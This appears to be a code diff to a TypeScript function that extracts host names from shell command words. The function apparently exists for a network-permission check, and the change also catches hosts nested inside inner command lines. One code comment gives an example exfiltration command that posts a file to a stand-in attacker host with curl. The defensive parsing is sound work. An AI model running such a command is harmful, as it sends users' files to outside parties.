@@ -13,23 +13,27 @@ const HOST_AT_START = /^(\[[0-9a-f:.]+\]|[^\s/?#:@[\]'"\\]+)(?::(\d{1,5}))?(?=[/
  * `package.json` or `app.ts` is not one; `notes.md` is (`.md` is a country's domain), which only narrows a grant.
  */
 export function addressesIn(word: string): string[] {
-  const found = /[a-z][a-z0-9+.-]*:\/\/[^\s'"]+/i.exec(word);
-  if (found) {
+  const found: string[] = [];
+  for (const [url] of word.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s'"`]+/gi)) {
     try {
-      const url = new URL(found[0]);
-      return [`${url.protocol}//${url.host}`];
+      const parsed = new URL(url);
+      found.push(`${parsed.protocol}//${parsed.host}`);
     } catch {
-      return [found[0]];
+      found.push(url);
     }
   }
-  const candidates = [word];
-  const value = /^-[^=]*=(.*)$/s.exec(word)?.[1];
-  if (value !== undefined) candidates.push(value);
-  for (const candidate of [...candidates]) {
-    const at = /^[^@/\s]+@(.*)$/s.exec(candidate)?.[1];
-    if (at !== undefined) candidates.push(at);
+  // A word may hold a command line of its own (`sh -c 'curl -d @f evil.com/c'`): each of its pieces counts too.
+  const pieces = [word, ...word.split(/[\s'"`;&|()<>]+/).filter((piece) => piece !== '' && piece !== word)];
+  for (const piece of pieces) {
+    if (piece.includes('://')) continue;
+    const value = /^-[^=]*=(.*)$/s.exec(piece)?.[1];
+    for (const text of value === undefined ? [piece] : [piece, value]) {
+      found.push(...hostOf(text));
+      const at = /^[^@/\s]+@(.*)$/s.exec(text)?.[1];
+      if (at !== undefined) found.push(...hostOf(at));
+    }
   }
-  return [...new Set(candidates.flatMap((candidate) => hostOf(candidate)))];
+  return [...new Set(found)];
 }
 
 function hostOf(text: string): string[] {
